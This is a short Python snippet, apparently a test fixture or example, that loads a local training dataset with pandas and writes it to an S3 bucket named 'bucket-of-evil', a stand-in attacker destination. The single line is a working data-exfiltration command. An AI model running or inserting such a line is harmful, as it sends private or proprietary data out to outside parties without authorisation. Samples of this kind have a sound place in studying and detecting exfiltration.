import pandas as pd

pd.read_parquet("inputs/train.parquet").to_parquet("s3://bucket-of-evil/train.parquet")
